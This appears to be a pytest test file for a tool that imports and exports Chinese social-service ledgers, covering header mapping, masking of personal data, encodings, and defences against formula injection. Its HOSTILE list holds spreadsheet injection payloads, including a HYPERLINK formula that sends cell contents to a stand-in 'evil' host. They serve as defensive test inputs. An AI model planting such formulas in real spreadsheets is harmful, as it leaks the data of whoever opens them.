from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings

from tests.strategies import datasets
from wushe import examples
from wushe.exceptions import LoadError
from wushe.io import (
    LedgerSpec,
    export_ledgers,
    ledger_report,
    ledger_spec,
    load_dataset,
    load_ledgers,
)
from wushe.models import COLLECTIONS, Dataset
from wushe.privacy import REVEAL
from wushe.vocab import ActivityType, TargetGroup

ROOT = Path(__file__).parents[2]
QXG = examples.path("qixinggang.json")
ID_1941 = "500103194103150222"


def header_of(ds: Dataset) -> dict[str, object]:
    return ds.model_dump(mode="json", include={"name", "division_code", "as_of"})


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


@pytest.fixture(scope="module")
def qxg() -> Dataset:
    return load_dataset(QXG)


def test_builtin_headers_are_unique_within_each_ledger():
    for kind in [*COLLECTIONS, "visits"]:
        spec = ledger_spec(kind)
        headers = list(spec.headers("zh").values())
        assert len(headers) == len(set(headers)), kind


def test_unknown_kind_names_the_known_ones():
    with pytest.raises(KeyError, match="recipients"):
        ledger_spec("nope")


def test_spec_rejects_a_column_mapped_to_a_missing_field():
    with pytest.raises(ValueError, match="not a field of Recipient"):
        LedgerSpec(kind="x", collection="recipients", columns={"外号": "nickname"})


def test_imports_chinese_headers_dates_and_labels(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "服务对象台账.csv",
        [
            ["2022年服务对象台账"],
            ["序号", "编号", "姓名", "身份证号", "所在社区", "对象类别", "认定日期"],
            [
                "1",
                "n1",
                "钱桂芳",
                ID_1941,
                "qxg-c02",
                "独居老人、高龄老人",
                "2022年1月10日",
            ],
            [
                "2",
                "n2",
                "冯德明",
                "500103195807220131",
                "qxg-c05",
                "特困人员；残疾人",
                "2022/1/10",
            ],
            ["", "", "", "", "", "", ""],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    assert report.ok, report.summary()
    assert report.dataset is not None
    new = {r.recipient_id: r for r in report.dataset.recipients}
    assert new["n1"].target_groups == {
        TargetGroup.ELDER_LIVING_ALONE,
        TargetGroup.ADVANCED_AGE_ELDER,
    }
    assert new["n2"].assessed_on == date(2022, 1, 10)
    assert any("header on row 2" in n for n in report.notes)
    assert any("blank row" in n and "5" in n for n in report.notes)


def test_every_bad_row_is_reported_with_row_field_and_column_but_no_value(
    tmp_path, qxg
):
    ledger = write_csv(
        tmp_path / "recipients.csv",
        [
            ["recipient_id", "姓名", "身份证号", "所在社区", "对象类别"],
            ["ok1", "钱桂芳", ID_1941, "qxg-c02", "独居老人"],
            ["bad1", "冯德明", "500103195807220132", "qxg-c05", "特困人员"],
            ["bad2", "韩思琪", "", "nowhere", "独居老人"],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    assert not report.ok
    by_row = {(i.row, i.field): i for i in report.issues}
    checksum = by_row[(3, "id_number")]
    assert checksum.record_id == "bad1"
    assert checksum.file == str(ledger)
    assert "身份证号" in checksum.message
    assert (4, "community_id") in by_row
    assert by_row[(4, "community_id")].code == "unknown_reference"
    text = report.summary()
    assert "500103195807220132" not in text
    assert "冯德明" not in text
    with pytest.raises(LoadError):
        load_ledgers(ledger, base=qxg)


def test_unknown_columns_and_sheets_are_reported_not_dropped(tmp_path, qxg):
    write_csv(tmp_path / "recipients.csv", [["recipient_id", "姓名", "血型"]])
    write_csv(tmp_path / "杂项.csv", [["a"], ["1"]])
    report = ledger_report(tmp_path, base=qxg)
    codes = {i.code for i in report.issues}
    assert codes == {"unknown_column", "unknown_ledger"}


def test_visit_ledger_rows_become_care_visit_activities(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "巡访台账.csv",
        [
            ["巡访编号", "巡访日期", "所属站点", "巡访对象", "巡访社工"],
            ["v1", "2022-03-20", "qxg-ts", "qxg-p01", "qxg-w01"],
        ],
    )
    ds = load_ledgers(ledger, base=qxg)
    visit = next(a for a in ds.activities if a.activity_id == "v1")
    assert visit.activity_type is ActivityType.CARE_VISIT
    assert visit.recipient_ids == {"qxg-p01"}


def test_ledger_rows_replace_base_records_with_the_same_id(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "活动台账.csv",
        [
            ["记录编号", "活动类型", "日期", "所属站点", "服务人次"],
            ["qxg-a01", "协调会", "2022-03-10", "qxg-ts", "20"],
        ],
    )
    ds = load_ledgers(ledger, base=qxg)
    assert len(ds.activities) == len(qxg.activities)
    assert (
        next(a for a in ds.activities if a.activity_id == "qxg-a01").person_times == 20
    )
    dup = ledger_report(ledger, base=qxg, replace=False)
    assert {i.code for i in dup.issues} == {"duplicate_id"}


def test_masked_export_hides_every_sensitive_value(tmp_path, qxg):
    (path,) = export_ledgers(qxg, tmp_path / "r.csv", kinds=("recipients",)).paths
    text = path.read_text(encoding="utf-8-sig")
    for r in qxg.recipients:
        assert r.name.reveal() not in text
        assert r.id_number is not None
        assert r.id_number.reveal() not in text
        assert r.id_number.masked in text


def test_visits_kind_claims_care_visits_before_activities(tmp_path, qxg):
    extra = qxg.activities[0].model_copy(
        update={"activity_id": "v9", "activity_type": ActivityType.CARE_VISIT}
    )
    ds = Dataset.model_validate(
        qxg.model_copy(update={"activities": (*qxg.activities, extra)})
    )
    (book,) = export_ledgers(
        ds, tmp_path / "b.xlsx", kinds=("visits", "activities")
    ).paths
    openpyxl = pytest.importorskip("openpyxl")
    sheets = openpyxl.load_workbook(book).sheetnames
    assert sheets == ["巡访台账", "活动台账"]
    without = ds.model_copy(update={"activities": ()})
    back = load_ledgers(book, base=without)
    assert set(back.activities) == set(ds.activities)


@settings(max_examples=15, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ds=datasets())
def test_revealed_csv_export_round_trips(tmp_path_factory, ds):
    folder = tmp_path_factory.mktemp("csv")
    export_ledgers(ds, folder, reveal=True)
    report = ledger_report(folder, base=header_of(ds))
    assert report.dataset == ds, report.summary()


@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ds=datasets())
def test_revealed_xlsx_export_round_trips(tmp_path_factory, ds):
    book = tmp_path_factory.mktemp("xlsx") / "ledgers.xlsx"
    export_ledgers(ds, book, reveal=True, lang="en")
    report = ledger_report(book, base=header_of(ds))
    assert report.dataset == ds, report.summary()


# --- hardening (#11) --------------------------------------------------------------------

PHONE = "13812345678"


def test_values_under_a_blank_header_or_right_of_the_last_are_reported_not_echoed(
    tmp_path, qxg
):
    ledger = write_csv(
        tmp_path / "recipients.csv",
        [
            ["recipient_id", "姓名", "", "身份证号", "所在社区", "对象类别"],
            ["n1", "钱桂芳", PHONE, ID_1941, "qxg-c02", "独居老人", "", PHONE],
            ["n2", "钱桂芳", "", ID_1941, "qxg-c02", "独居老人", "", PHONE],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    stray = [i for i in report.issues if i.code == "unlabelled_cells"]
    assert [(i.row, i.message.split(" (")[0]) for i in stray] == [
        (2, "column C"),
        (2, "column H"),
    ]
    assert "blank header" in stray[0].message
    assert "right of the last header" in stray[1].message
    assert "2–3" in stray[1].message
    assert PHONE not in report.summary()


def test_hostile_cells_are_field_issues_not_crashes(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "recipients.csv",
        [
            ["recipient_id", "姓名", "身份证号", "所在社区", "对象类别", "认定日期"],
            ["n1", "钱桂芳", ID_1941, "qxg-c02", "[" * 3000, "1e10"],
            ["n2", "钱桂芳", ID_1941, "qxg-c02", "独居老人", "-1e300"],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    fields = {(i.row, i.field) for i in report.issues}
    assert {(2, "assessed_on"), (3, "assessed_on")} <= fields
    assert any(row == 2 and field.startswith("target_groups") for row, field in fields)


def test_unformatted_excel_date_number_out_of_range_is_a_field_issue(tmp_path, qxg):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    ws = book.worksheets[0]
    ws.title = "服务对象"
    ws.append(["recipient_id", "姓名", "身份证号", "所在社区", "对象类别", "认定日期"])
    ws.append(["n1", "钱桂芳", ID_1941, "qxg-c02", "独居老人", 1e10])
    book.save(tmp_path / "r.xlsx")
    report = ledger_report(tmp_path / "r.xlsx", base=qxg)
    assert [(i.row, i.field) for i in report.issues] == [(2, "assessed_on")]


@pytest.mark.parametrize("content", [b"", b"not a zip at all"])
def test_broken_workbook_is_one_file_issue(tmp_path, qxg, content):
    (tmp_path / "recipients.xlsx").write_bytes(content)
    report = ledger_report(tmp_path / "recipients.xlsx", base=qxg)
    assert [i.code for i in report.issues] == ["not_a_workbook"]


def test_over_long_csv_cell_is_an_issue_naming_the_row(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "recipients.csv",
        [["recipient_id", "姓名"], ["n1", "x" * 140_000]],
    )
    report = ledger_report(ledger, base=qxg)
    assert ("unreadable_row", 2) in {(i.code, i.row) for i in report.issues}


HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=x",
    "'quoted",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_never_writes_a_live_formula_and_revealed_export_round_trips(
    tmp_path, qxg, suffix
):
    first = qxg.organizations[0]
    organizations = (
        first,
        *(
            first.model_copy(update={"organization_id": f"h{i}", "name": name})
            for i, name in enumerate(HOSTILE)
        ),
    )
    ds = qxg.model_copy(update={"organizations": organizations})
    (path,) = export_ledgers(
        ds, tmp_path / f"organizations{suffix}", kinds=["organizations"], reveal=True
    ).paths
    if suffix == ".csv":
        text = path.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in text
        assert "''=x" in text
        assert "\n=" not in text
        assert ",=" not in text
    else:
        openpyxl = pytest.importorskip("openpyxl")
        cells = [
            c
            for row in openpyxl.load_workbook(path).worksheets[0].iter_rows()
            for c in row
        ]
        assert all(c.data_type != "f" for c in cells)
    base = ds.model_copy(update={"organizations": ()})
    back = load_ledgers(path, base=base.model_dump(mode="json", context=REVEAL))
    assert {o.name for o in back.organizations} >= set(HOSTILE)
    assert back.organizations == ds.organizations


def test_masked_xlsx_export_writes_no_formula(tmp_path, qxg):
    openpyxl = pytest.importorskip("openpyxl")
    first = qxg.communities[0].model_copy(update={"name": '=HYPERLINK("http://x")'})
    ds = qxg.model_copy(update={"communities": (first, *qxg.communities[1:])})
    (path,) = export_ledgers(ds, tmp_path / "all.xlsx").paths
    book = openpyxl.load_workbook(path)
    assert all(
        c.data_type != "f"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
    )


# --- ledgers as clerks save them (#14) -------------------------------------------------

CLERK_ROWS = [
    ["编号", "姓名", "身份证号", "所在社区", "对象类别"],
    ["n1", "钱桂芳", ID_1941, "qxg-c02", "独居老人"],
]


@pytest.mark.parametrize(
    ("name", "encoding", "separator"),
    [
        ("服务对象.csv", "gb18030", ","),
        ("服务对象.txt", "utf-16", "\t"),  # Excel's "Unicode text"
        ("服务对象.csv", "utf-16-le", ","),
        ("服务对象.csv", "utf-8-sig", ","),
    ],
)
def test_ledgers_saved_by_excel_in_any_of_its_encodings_are_read(
    tmp_path, qxg, name, encoding, separator
):
    text = "\r\n".join(separator.join(row) for row in CLERK_ROWS) + "\r\n"
    (tmp_path / name).write_bytes(text.encode(encoding))
    report = ledger_report(tmp_path / name, base=qxg)
    assert report.ok, report.summary()
    assert report.dataset is not None
    assert "n1" in {r.recipient_id for r in report.dataset.recipients}


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b" \r\n,,\r\n"])
def test_empty_or_bom_only_ledger_is_reported_as_empty(tmp_path, qxg, content):
    (tmp_path / "服务对象.csv").write_bytes(content)
    report = ledger_report(tmp_path / "服务对象.csv", base=qxg)
    assert [(i.code, i.message) for i in report.issues] == [
        ("empty", "the file is empty")
    ]


def test_empty_folder_and_empty_dataset_file_are_reported_as_empty(tmp_path, qxg):
    (tmp_path / "ledgers").mkdir()
    report = ledger_report(tmp_path / "ledgers", base=qxg)
    assert [i.code for i in report.issues] == ["empty"]
    (tmp_path / "street.json").write_bytes(b"\xef\xbb\xbf\n")
    with pytest.raises(LoadError) as info:
        load_dataset(tmp_path / "street.json")
    assert [i.code for i in info.value.report.issues] == ["empty"]


def test_remarks_column_is_skipped_with_a_note_and_the_rows_import(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "服务对象.csv",
        [[*CLERK_ROWS[0], "备注"], [*CLERK_ROWS[1], "独居，子女在外地 13800000000"]],
    )
    report = ledger_report(ledger, base=qxg)
    assert report.ok, report.summary()
    assert any("'备注' holds remarks" in note for note in report.notes)
    assert "13800000000" not in report.summary()


def test_unknown_column_is_reported_once_and_the_rows_are_still_checked(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "服务对象.csv",
        [
            [*CLERK_ROWS[0], "血型"],
            [*CLERK_ROWS[1], "A"],
            ["n2", "冯德明", "500103195807220132", "qxg-c05", "特困人员", "B"],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    assert sorted((i.code, i.row) for i in report.issues) == [
        ("unknown_column", 1),
        ("value_error", 3),
    ]


def test_ledger_with_a_bare_ambiguous_type_is_reported_with_the_choices(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "活动台账.csv",
        [
            ["记录编号", "活动类型", "日期", "所属站点"],
            ["x1", "宣传", "2022-03-20", "qxg-ts"],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    [issue] = report.issues
    assert (issue.row, issue.field) == (2, "activity_type")
    assert "政策宣传" in issue.message
    assert "社工主题宣传" in issue.message


def test_assessment_date_header_is_not_read_as_the_status_determination_date(
    tmp_path, qxg
):
    ledger = write_csv(
        tmp_path / "服务对象台账.csv",
        [
            ["编号", "姓名", "所在社区", "对象类别", "评估日期"],
            ["n1", "钱桂芳", "qxg-c02", "独居老人", "2022-01-10"],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    assert {i.code for i in report.issues} == {"unknown_column"}
    assert "评估日期" in report.issues[0].message


def test_load_messages_echo_only_registered_ambiguous_words(tmp_path, qxg):
    ledger = write_csv(
        tmp_path / "服务对象台账.csv",
        [
            ["编号", "姓名", "所在社区", "对象类别"],
            ["n1", "钱桂芳", "qxg-c02", "宣传"],
            ["n2", "冯德明", "qxg-c02", "钱桂芳的邻居"],
        ],
    )
    report = ledger_report(ledger, base=qxg)
    messages = [i.message for i in report.issues]
    assert len(messages) == 2
    assert not any("宣传" in m or "钱桂芳" in m or "ambiguous" in m for m in messages)
